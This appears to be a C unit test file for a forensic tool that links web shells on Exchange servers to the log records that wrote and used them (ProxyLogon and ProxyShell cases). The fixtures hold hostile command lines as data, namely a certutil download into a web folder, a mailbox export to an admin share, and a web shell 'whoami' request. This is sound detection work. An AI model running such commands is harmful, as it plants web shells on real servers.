/* correlate/story.c: which record wrote a file left in a web folder, and
 * who requested it. White-box: findings built by hand (core/result.h).
 *
 * A shell is written in many ways besides ProxyLogon's two (the OAB
 * generator's and the ECP virtual-directory reset's records): a ProxyShell
 * mailbox export (-FilePath ...\aspnet_client\x.aspx), a command line
 * (echo > , certutil -urlcache, Invoke-WebRequest -OutFile), a Sysmon file
 * creation. Any finding whose record names the file by its folder and name
 * is its writer; a record naming only the same name in another folder, or a
 * longer name, is not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "core/result.h"
#include "correlate/correlate.h"
#include "exhunt/exhunt.h"
#include "util/util.h"

static const char *const cve_31207[] = {"CVE-2021-31207"};
static const exh_rule_info file_rule = {"f-1", "Web shell", "d", "builtin:w.yar", "exhunt.file",
                                        EXH_LEVEL_CRITICAL, NULL, 0, NULL, 0, 0};
static const exh_rule_info proc_rule = {"p-1", "w3wp.exe starting a shell", "d", "builtin:p.yml", "windows.evtx",
                                        EXH_LEVEL_HIGH, NULL, 0, NULL, 0, 0};
static const exh_rule_info export_rule = {"e-1", "Mailbox exported to a web folder", "d", "builtin:e.yml",
                                          "windows.evtx", EXH_LEVEL_CRITICAL, cve_31207, 1, NULL, 0, 0};
static const char *const cve_34473[] = {"CVE-2021-34473"};
static const exh_rule_info proxyshell_rule = {"s-1", "ProxyShell exploitation", "d", "builtin:s.yml", "iis",
                                              EXH_LEVEL_CRITICAL, cve_34473, 1, NULL, 0, 0};
static const exh_rule_info use_rule = {"u-1", "Web shell used", "d", "builtin:u.yml", "iis", EXH_LEVEL_HIGH,
                                       NULL, 0, NULL, 0, 0};

#define T0 1625097600000LL /* 2021-07-01 */

static exh_finding *add(exh_result *r, const exh_rule_info *rule, int64_t t, const char *path, const char *evidence) {
  r->findings = exh__xrealloc(r->findings, (r->nfindings + 1) * sizeof *r->findings);
  exh_finding *f = &r->findings[r->nfindings++];
  memset(f, 0, sizeof *f);
  f->rule = rule;
  f->level = rule->level;
  f->time_ms = t;
  f->path = exh__xstrdup(path);
  f->file_mtime_ms = EXH_TIME_UNKNOWN;
  if (evidence) {
    f->evidence = exh__xstrdup(evidence);
    f->evidence_len = strlen(evidence);
  }
  return f;
}

static exh_result *make(void) {
  exh_result *r = exh__xcalloc(1, sizeof *r);
  r->nservers = 1;
  r->servers = exh__xcalloc(1, sizeof *r->servers);
  r->servers[0].name = exh__xstrdup("EXCH01");
  r->servers[0].root = exh__xstrdup("/c");
  exh_finding *f = add(r, &file_rule, EXH_TIME_UNKNOWN, "/c/C/inetpub/wwwroot/aspnet_client/upd.aspx", NULL);
  f->is_file = 1;
  f->file_mtime_ms = T0 + 60000;
  exh_finding *u = add(r, &use_rule, T0 + 120000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log",
                       "2021-07-01 00:02:00 POST /aspnet_client/upd.aspx");
  u->line = 7;
  u->url = exh__xstrdup("/aspnet_client/upd.aspx?c=whoami");
  u->source_ip = exh__xstrdup("203.0.113.9");
  return r;
}

static const char *story(exh_result *r) {
  exh__correlate_story(r);
  return r->findings[0].story ? r->findings[0].story : "";
}

/* a command line naming the file (the record as JSON: backslashes doubled) */
static void test_command_line_writer(void **st) {
  (void)st;
  exh_result *r = make();
  exh_finding *p = add(r, &proc_rule, T0 + 30000, "/c/C/Windows/System32/winevt/Logs/Sysmon.evtx",
                       "{\"CommandLine\":\"cmd.exe /c echo x > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\UPD.aspx\"}");
  p->record_id = 4242;
  const char *s = story(r);
  if (!strstr(s, "w3wp.exe starting a shell") || !strstr(s, "record 4242") || !strstr(s, "requested 1 time") ||
      !strstr(s, "203.0.113.9"))
    fail_msg("story: %s", s);
  exh_result_free(r);
}

/* a ProxyShell export naming the file through an administrative share is
 * preferred to an earlier command line naming it */
static void test_export_writer(void **st) {
  (void)st;
  exh_result *r = make();
  add(r, &proc_rule, T0 + 10000, "/c/Sysmon.evtx",
      "{\"CommandLine\":\"certutil -urlcache -f http://x/a C:/inetpub/wwwroot/aspnet_client/upd.aspx\"}");
  exh_finding *e = add(r, &export_rule, T0 + 20000, "/c/MSExchange Management.evtx",
                       "New-MailboxExportRequest -Mailbox a@b -FilePath "
                       "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\upd.aspx");
  e->record_id = 77;
  const char *s = story(r);
  if (!strstr(s, "named by a CVE-2021-31207 record") || !strstr(s, "record 77")) fail_msg("story: %s", s);
  exh_result_free(r);
}

/* the same name in another folder, a longer name, a name as a prefix: not
 * the file's writer (only its use is told) */
static void test_other_names_are_not_writers(void **st) {
  (void)st;
  exh_result *r = make();
  add(r, &proc_rule, T0, "/c/a.evtx", "{\"CommandLine\":\"copy C:\\\\temp\\\\upd.aspx C:\\\\x\"}");
  add(r, &proc_rule, T0, "/c/b.evtx", "{\"CommandLine\":\"echo > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\xupd.aspx\"}");
  add(r, &proc_rule, T0, "/c/c.evtx", "{\"CommandLine\":\"echo > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\upd.aspx.bak\"}");
  const char *s = story(r);
  if (strstr(s, "named by") || strstr(s, "written") || !strstr(s, "requested 1 time")) fail_msg("story: %s", s);
  exh_result_free(r);
}

/* A process w3wp.exe started runs inside the request that started it, and
 * IIS writes a request's line when it ends: the request logged at or soon
 * after the process's time (same server) is the one that probably ran it.
 * A request long after, one before, or a process not started by w3wp.exe
 * is not told. */
static exh_finding *proc(exh_result *r, int64_t t, const char *parent) {
  char ev[512];
  snprintf(ev, sizeof ev,
           "{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\"
           "inetsrv\\\\%s\"}",
           parent);
  exh_finding *p = add(r, &proc_rule, t, "/c/Sysmon.evtx", ev);
  p->dataset = "windows.evtx";
  p->record_id = 9;
  return p;
}

static void test_process_run_by_request(void **st) {
  (void)st;
  exh_result *r = make(); /* the use: 203.0.113.9 at T0 + 120 s */
  r->findings[1].dataset = "iis.access";
  r->findings[1].http_method = exh__xstrdup("POST");
  proc(r, T0 + 119000, "w3wp.exe");     /* 1 s before the line: told */
  proc(r, T0 + 121000, "w3wp.exe");     /* after the line: not */
  proc(r, T0 - 3600000, "w3wp.exe");    /* an hour before: not */
  proc(r, T0 + 119500, "explorer.exe"); /* not the web server's */
  exh__correlate_story(r);
  const char *s = r->findings[2].story;
  if (!s || !strstr(s, "203.0.113.9") || !strstr(s, "/aspnet_client/upd.aspx") || !strstr(s, "u_ex210701.log:7"))
    fail_msg("story: %s", s ? s : "(none)");
  for (size_t i = 3; i < r->nfindings; i++)
    if (r->findings[i].story) fail_msg("finding %zu: %s", i, r->findings[i].story);
  exh_result_free(r);
}

/* A process started by one the web server started (cmd.exe, then
 * procdump) is followed by Sysmon's process GUIDs: it inherits the
 * request; a process whose parent GUID is unknown is not told. */
static exh_finding *child(exh_result *r, int64_t t, const char *guid, const char *parent_guid) {
  char ev[512];
  snprintf(ev, sizeof ev,
           "{\"ProcessGuid\":\"%s\",\"Image\":\"C:\\\\ProgramData\\\\pd.exe\",\"ParentProcessGuid\":\"%s\","
           "\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"}",
           guid, parent_guid);
  exh_finding *p = add(r, &proc_rule, t, "/c/Sysmon.evtx", ev);
  p->dataset = "windows.evtx";
  p->record_id = 11;
  return p;
}

static void test_process_tree_followed(void **st) {
  (void)st;
  exh_result *r = make();
  r->findings[1].dataset = "iis.access";
  char ev[512];
  snprintf(ev, sizeof ev,
           "{\"ProcessGuid\":\"{aaaa}\",\"ParentProcessGuid\":\"{w3wp}\",\"ParentImage\":\"C:\\\\Windows\\\\"
           "System32\\\\inetsrv\\\\w3wp.exe\"}");
  exh_finding *c = add(r, &proc_rule, T0 + 119000, "/c/Sysmon.evtx", ev);
  c->dataset = "windows.evtx";
  c->record_id = 10;
  child(r, T0 + 119500, "{bbbb}", "{aaaa}"); /* grandchild of w3wp.exe */
  child(r, T0 + 119600, "{cccc}", "{bbbb}"); /* and its child */
  child(r, T0 + 119700, "{dddd}", "{zzzz}"); /* an unknown parent */
  exh__correlate_story(r);
  for (size_t i = 3; i <= 4; i++) {
    const char *s = r->findings[i].story;
    if (!s || !strstr(s, "203.0.113.9") || !strstr(s, "record 10")) fail_msg("finding %zu: %s", i, s ? s : "(none)");
  }
  if (r->findings[5].story) fail_msg("unknown parent: %s", r->findings[5].story);
  /* a forged chain of 200 processes, parents listed first (one pass would
   * follow it whole): the stories stop a few processes down, short */
  for (int d = 1; d <= 200; d++) {
    char g[32], pg[32];
    snprintf(g, sizeof g, "{chain-%d}", d);
    snprintf(pg, sizeof pg, d == 1 ? "{cccc}" : "{chain-%d}", d - 1);
    child(r, T0 + 119800, g, pg);
  }
  for (size_t i = 0; i < r->nfindings; i++) r->findings[i].story = (free(r->findings[i].story), NULL);
  exh__correlate_story(r);
  size_t told = 0;
  for (size_t i = 6; i < r->nfindings; i++) {
    if (!r->findings[i].story) continue;
    told++;
    if (strlen(r->findings[i].story) > 2000) fail_msg("a story of %zu bytes", strlen(r->findings[i].story));
  }
  if (told == 0 || told > 4) fail_msg("%zu of the chain told", told);
  exh_result_free(r);
}

/* Two files of one name in two folders: a record naming one is the
 * writer of that one only; URL-encoded separators count. */
static void test_same_name_two_folders(void **st) {
  (void)st;
  exh_result *r = make(); /* aspnet_client/upd.aspx */
  exh_finding *f2 = add(r, &file_rule, EXH_TIME_UNKNOWN, "/c/C/inetpub/wwwroot/owa/auth/upd.aspx", NULL);
  f2->is_file = 1;
  add(r, &proc_rule, T0, "/c/a.evtx", "GET /x?f=C:%5Cinetpub%5Cwwwroot%5Cowa%5CAUTH%5Cupd.aspx&y=1");
  exh__correlate_story(r);
  const char *s1 = r->findings[0].story ? r->findings[0].story : "", *s2 = r->findings[2].story;
  if (strstr(s1, "named by") || !s2 || !strstr(s2, "named by")) fail_msg("stories: %s | %s", s1, s2 ? s2 : "(none)");
  exh_result_free(r);
}

/* Uses are requests, not findings: two rules on one line are one request;
 * a request written with percent-encoding is the same URL. */
static void test_uses_are_requests(void **st) {
  (void)st;
  exh_result *r = make(); /* one use from 203.0.113.9, line 7 */
  exh_finding *dup = add(r, &proc_rule, T0 + 120000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log", "x");
  dup->line = 7; /* a second rule on the same line */
  dup->url = exh__xstrdup("/aspnet_client/upd.aspx?c=whoami");
  dup->source_ip = exh__xstrdup("203.0.113.9");
  exh_finding *enc = add(r, &use_rule, T0 + 180000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log", "y");
  enc->line = 9;
  enc->url = exh__xstrdup("/aspnet_client/%55pd%2easpx");
  enc->source_ip = exh__xstrdup("203.0.113.10");
  const char *s = story(r);
  if (!strstr(s, "requested 2 times") || !strstr(s, "203.0.113.10")) fail_msg("story: %s", s);
  exh_result_free(r);
}

/* The process's request is one that could have run it: a 404 (the page is
 * not there) or a refusal logged nearer is not. */
static void test_process_not_run_by_a_404(void **st) {
  (void)st;
  exh_result *r = make(); /* the use: POST 203.0.113.9 at T0 + 120 s, status unknown */
  r->findings[1].dataset = "iis.access";
  r->findings[1].http_status = 200;
  exh_finding *scan = add(r, &use_rule, T0 + 62000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log", "z");
  scan->dataset = "iis.access";
  scan->line = 5;
  scan->url = exh__xstrdup("/aspnet_client/shell.aspx");
  scan->source_ip = exh__xstrdup("198.51.100.1");
  scan->http_status = 404;
  scan->level = EXH_LEVEL_LOW;
  proc(r, T0 + 60000, "w3wp.exe");
  exh__correlate_story(r);
  const char *s = r->findings[3].story;
  if (!s || !strstr(s, "203.0.113.9") || strstr(s, "198.51.100.1")) fail_msg("story: %s", s ? s : "(none)");
  exh_result_free(r);
}

/* A shell written through ProxyShell (a mailbox export the logs do not
 * name by path): the successful exploitation request shortly before the
 * file's time is its probable writer, as ProxyLogon's reset is. */
static void test_proxyshell_probable_writer(void **st) {
  (void)st;
  exh_result *r = make(); /* the file's time: T0 + 60 s */
  exh_finding *ps = add(r, &proxyshell_rule, T0 + 35000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log", "p");
  ps->line = 3;
  ps->url = exh__xstrdup("/autodiscover/autodiscover.json");
  ps->source_ip = exh__xstrdup("198.51.100.77");
  const char *s = story(r);
  if (!strstr(s, "probably written") || !strstr(s, "CVE-2021-34473 request 25 s before") || !strstr(s, "198.51.100.77"))
    fail_msg("story: %s", s);
  exh_result_free(r);
}

/* A hop is named as correlate/labels.c labelled it, not always "the
 * server itself". */
static void test_hop_named(void **st) {
  (void)st;
  exh_result *r = make();
  exh_finding *u = &r->findings[1];
  u->hop_ip = u->source_ip;
  u->source_ip = NULL;
  u->addr_note = exh__xstrdup("an internal proxy");
  const char *s = story(r);
  if (!strstr(s, "from an internal proxy (203.0.113.9: the log does not name the original client)"))
    fail_msg("story: %s", s);
  exh_result_free(r);
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(test_command_line_writer), cmocka_unit_test(test_export_writer),
                                     cmocka_unit_test(test_other_names_are_not_writers),
                                     cmocka_unit_test(test_process_run_by_request),
                                     cmocka_unit_test(test_process_tree_followed),
                                     cmocka_unit_test(test_same_name_two_folders),
                                     cmocka_unit_test(test_uses_are_requests),
                                     cmocka_unit_test(test_process_not_run_by_a_404),
                                     cmocka_unit_test(test_proxyshell_probable_writer),
                                     cmocka_unit_test(test_hop_named)};
  return cmocka_run_group_tests(tests, NULL, NULL);
}
